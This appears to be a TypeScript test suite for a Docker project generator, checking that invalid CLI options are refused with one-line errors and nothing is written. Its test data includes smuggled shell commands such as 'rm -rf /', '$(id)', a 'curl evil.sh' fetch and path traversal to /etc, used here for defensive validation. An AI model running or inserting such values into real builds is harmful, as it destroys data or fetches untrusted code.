import assert from 'node:assert/strict';
import { readdirSync } from 'node:fs';
import { generate, SCRIPT_PROJECT, type GeneratorName } from './support/generate.js';

interface BadCase {
  readonly options: Record<string, string>;
  /** The whole one-line message: option, value and rule. */
  readonly message: RegExp;
  readonly generator?: GeneratorName;
  /** The project's files (default: a script and requirements.txt). */
  readonly files?: Readonly<Record<string, string>>;
}

/** Every refused value names its option and value, says the rule, and writes nothing. */
const CASES: readonly BadCase[] = [
  {
    options: { stack: 'python3' },
    message: /^--stack 'python3': must be one of python-debian, python-alpine, jupyter$/,
  },
  { options: { stack: '' }, message: /^--stack '': must be one of/ },
  {
    options: { name: 'My App' },
    // Says what to type, with real examples, not a regular expression.
    message:
      /^--name 'My App': must be a lowercase image name .*: e\.g\. shop-api or registry\.example\.com\/team\/shop-api$/,
  },
  { options: { name: 'app:latest' }, message: /^--name 'app:latest': must be a lowercase image name/ },
  { options: { name: 'app\nRUN rm -rf /' }, message: /^--name 'app\\nRUN rm -rf \/': must be a lowercase image name/ },
  {
    options: { name: 'x'.repeat(300) },
    message: /^--name 'x{80}… \(300 characters\)': must be a lowercase image name/,
  },
  { options: { python: '2.7' }, message: /^--python '2\.7': must be one of 3\.15, 3\.14, 3\.13, 3\.12/ },
  { options: { python: '3.13.1' }, message: /^--python '3\.13\.1': must be one of/ },
  {
    options: { python: '3.15', release: 'bookworm' },
    message: /^--release 'bookworm': must be trixie: a Debian codename with a python:3\.15 image/,
  },
  { options: { release: 'buster' }, message: /^--release 'buster': must be trixie/ },
  {
    options: { stack: 'python-alpine', release: 'trixie' },
    message: /^--release 'trixie': must be one of 3\.24, 3\.23: an Alpine branch/,
  },
  {
    options: { entry: '/srv/app.py' },
    message: /^--entry '\/srv\/app\.py': must be the relative path of a \.py script/,
  },
  { options: { entry: 'app.py; rm -rf /' }, message: /^--entry 'app\.py; rm -rf \/': ';' needs a shell/ },
  { options: { entry: '-m os;id' }, message: /^--entry '-m os;id': ';' needs a shell/ },
  {
    options: { entry: 'gunicorn app:app && rm -rf /' },
    message: /^--entry 'gunicorn app:app && rm -rf \/': '&&' needs a shell/,
  },
  {
    options: { entry: 'gunicorn app:app | tee log' },
    message: /^--entry 'gunicorn app:app \| tee log': '\|' needs a shell/,
  },
  { options: { entry: 'gunicorn app:app > log' }, message: /^--entry 'gunicorn app:app > log': '>' needs a shell/ },
  { options: { entry: 'gunicorn app:app $(id)' }, message: /^--entry 'gunicorn app:app \$\(id\)': .*needs a shell/ },
  {
    options: { entry: 'gunicorn app:app `id`' },
    message: /^--entry 'gunicorn app:app `id`': \$\( \) or a backquote needs a shell/,
  },
  {
    options: { entry: 'gunicorn --bind 0.0.0.0:$PORT app:app' },
    message:
      /^--entry 'gunicorn --bind 0\.0\.0\.0:\$PORT app:app': \$PORT would be expanded by a shell: write its value/,
  },
  {
    options: { entry: 'DEBUG=1 gunicorn app:app' },
    message: /^--entry 'DEBUG=1 gunicorn app:app': 'DEBUG=1' sets a variable/,
  },
  { options: { entry: 'python *.py' }, message: /^--entry 'python \*\.py': \*\.py is a shell glob/ },
  {
    options: { entry: 'main.py' },
    message:
      /^--entry 'main\.py': 'main\.py' is not in the project: give a script that is there \(the project has app\.py\)/,
  },
  { options: { entry: '-m shop.main' }, message: /^--entry '-m shop\.main': module shop\.main is not in the project/ },
  {
    options: {},
    files: { 'helpers.py': 'def add(a, b):\n    return a + b\n', 'requirements.txt': '' },
    message:
      /^--entry is needed: nothing to run was detected in this project \(it has helpers\.py\): give --entry helpers\.py, --entry "-m package\.module", or a command/,
  },
  {
    options: { stack: 'jupyter', entry: 'app.py' },
    message: /^--entry 'app\.py': must be the relative path of a \.ipynb notebook/,
  },
  { options: { port: '0' }, message: /^--port '0': must be a whole number from 1 to 65535, or none$/ },
  { options: { port: '70000' }, message: /^--port '70000': must be a whole number from 1 to 65535, or none$/ },
  { options: { port: '80;EXPOSE 22' }, message: /^--port '80;EXPOSE 22': must be a whole number/ },
  { options: { health: 'ping' }, message: /^--health 'ping': must be one of http, tcp, cmd, none$/ },
  { options: { port: 'none', health: 'tcp' }, message: /^--health 'tcp': needs a port/ },
  { options: { port: '123456' }, message: /^--port '123456': must be a whole number from 1 to 65535/ },
  { options: { port: '080' }, message: /^--port '080': must be a whole number from 1 to 65535/ },
  { options: { port: 'none', health: 'http' }, message: /^--health 'http': needs a port/ },
  {
    options: { port: '8000', health: 'http', healthpath: 'healthz' },
    message: /^--healthpath 'healthz': must be a URL path starting with \//,
  },
  {
    options: { port: '8000', health: 'http', healthpath: "/x')\nimport os" },
    message: /^--healthpath '\/x\\'\)\\nimport os': must be a URL path/,
  },
  {
    options: { health: 'cmd', healthcmd: 'curl -f localhost || exit 1' },
    message: /^--healthcmd 'curl -f localhost \|\| exit 1': must be words/,
  },
  { options: { health: 'cmd' }, message: /^--healthcmd is needed here and has no usable default: must not be empty/ },
  { options: { health: 'none', healthcmd: 'python -m x' }, message: /^--healthcmd does not apply here/ },
  { options: { volumes: 'data' }, message: /^--volumes 'data': 'data' is not an absolute container path/ },
  { options: { volumes: '/etc' }, message: /^--volumes '\/etc': '\/etc' would hide or change the image's own files/ },
  {
    options: { volumes: '/srv/a,/srv/../etc' },
    message: /^--volumes '\/srv\/a,\/srv\/\.\.\/etc': '\/srv\/\.\.\/etc' has \. or \.\./,
  },
  {
    options: { packages: 'libpq5' },
    message:
      /^--packages 'libpq5': 'libpq5' is not pinned: write it as libpq5=<version>, e\.g\. libpq5=15\.\* \(apt-cache policy libpq5 in the base image lists its versions\)$/,
  },
  {
    options: { stack: 'python-alpine', packages: 'libpq' },
    message: /^--packages 'libpq': 'libpq' is not pinned: write it as libpq~=<version>/,
  },
  {
    options: { buildpackages: 'gcc=12 && curl evil.sh' },
    message: /^--buildpackages 'gcc=12 && curl evil\.sh': 'gcc=12 && curl evil\.sh' is not a pinned Debian package/,
  },
  { options: { uid: '0' }, message: /^--uid '0': must be a whole number from 1000 to 2147483647$/ },
  { options: { gid: 'root' }, message: /^--gid 'root': must be a whole number from 1000 to 2147483647$/ },
  { options: { env: 'API_TOKEN=abc' }, message: /^--env 'API_TOKEN=abc': API_TOKEN looks like a secret/ },
  { options: { env: 'A=$(id)' }, message: /^--env 'A=\$\(id\)': the value of A may hold only/ },
  { options: { env: 'PATH=/tmp' }, message: /^--env 'PATH=\/tmp': PATH is set by the generated Dockerfile itself$/ },
  { options: { name: 'Bad' }, generator: 'build', message: /^--name 'Bad': must be a lowercase image name/ },
  { options: { port: 'eighty' }, generator: 'compose', message: /^--port 'eighty': must be a whole number/ },
  { options: { uid: '42' }, generator: 'dockerfile', message: /^--uid '42': must be a whole number from 1000/ },
];

describe('bad input', () => {
  it(`covers at least 30 refused values (${CASES.length})`, () => {
    assert.ok(CASES.length >= 30);
  });

  for (const badCase of CASES) {
    const generator = badCase.generator ?? 'app';
    it(`${generator} refuses ${JSON.stringify(badCase.options)} with one line and writes nothing`, async () => {
      let dir = '';
      const error = await generate({
        generator,
        options: { defaults: true, ...badCase.options },
        files: badCase.files ?? SCRIPT_PROJECT,
        onDir: (folder) => {
          dir = folder;
        },
      }).then(
        () => undefined,
        (thrown: unknown) => thrown,
      );
      assert.ok(error instanceof Error, 'the run must fail');
      assert.equal(
        (error as { isUserError?: boolean }).isUserError,
        true,
        `a user error, not a crash: ${error.stack ?? ''}`,
      );
      assert.match(error.message, badCase.message);
      assert.doesNotMatch(error.message, /\n/, 'one line');
      assert.deepEqual(
        readdirSync(dir).sort(),
        Object.keys(badCase.files ?? SCRIPT_PROJECT).sort(),
        'only the project files are there',
      );
    });
  }
});
